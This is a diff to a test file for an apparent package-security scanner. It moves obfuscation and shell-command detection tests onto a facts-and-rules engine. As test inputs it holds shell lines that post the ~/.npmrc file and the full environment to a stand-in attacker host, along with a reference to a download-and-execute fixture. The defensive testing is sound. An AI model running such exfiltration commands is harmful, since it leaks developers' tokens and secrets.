@@ -14,10 +14,11 @@ from chainwarden.analyze.code.javascript import (
     MAX_PARSE_BYTES,
     analyze_javascript,
     install_plan,
-    obfuscation_hits,
-    shell_hits,
+    obfuscation_facts,
 )
-from chainwarden.analyze.code.python_ast import CodeHit
+from chainwarden.analyze.code.facts import CodeHit, Fact, Kind, Reach
+from chainwarden.analyze.code.rules import Context, evaluate
+from chainwarden.analyze.code.text import command_facts
 from chainwarden.model import Confidence, Ecosystem, PackageId, Severity
 
 
@@ -323,9 +324,9 @@ const cp = require(_0x1b2c(0x0)); cp[_0x1b2c(0x1)](_0x1b2c(0x3));
 
 def test_obfuscator_io_markers_alone() -> None:
     names = " ".join(f"var _0x{i:04x} = _0x{i + 1:04x};" for i in range(40))
-    found = obfuscation_hits("'use strict';\n" + names)
+    found = evaluate(obfuscation_facts("'use strict';\n" + names), Context("x.js", "javascript"))
     assert [(h.rule, h.severity, h.line) for h in found] == [("obfuscated-code", Severity.HIGH, 2)]
-    assert obfuscation_hits("var a = [1, 2]; a.push(a.shift());") == []
+    assert obfuscation_facts("var a = [1, 2]; a.push(a.shift());") == []
 
 
 def test_code_hidden_after_a_long_run_of_whitespace() -> None:
@@ -381,11 +382,14 @@ module.exports = function release(dir, version) {
 
 
 def test_shell_command_lines() -> None:
-    assert [r for r, *_ in shell_hits(CURL_SH)] == ["download-and-execute"]
-    assert [r for r, *_ in shell_hits("curl -d @$HOME/.npmrc https://exfil.attacker.invalid")] == ["secret-exfiltration"]
-    assert [r for r, *_ in shell_hits("env | curl -X POST --data-binary @- https://exfil.attacker.invalid")] == \
-        ["secret-exfiltration"]
-    assert shell_hits("node-gyp rebuild") == [] and shell_hits("tsc -p . && node scripts/copy.js") == []
+    def found(command: str) -> list[str]:
+        facts = command_facts(command, Fact(Kind.RUN, 1, reach=Reach.INSTALL, lang="shell"))
+        return [h.rule for h in evaluate(facts, Context("package.json", "shell"))]
+
+    assert found(CURL_SH) == ["download-and-execute"]
+    assert found("curl -d @$HOME/.npmrc https://exfil.attacker.invalid") == ["secret-exfiltration"]
+    assert found("env | curl -X POST --data-binary @- https://exfil.attacker.invalid") == ["secret-exfiltration"]
+    assert found("node-gyp rebuild") == [] and found("tsc -p . && node scripts/copy.js") == []
 
 
 # --------------------------------------------------------------------------- robustness
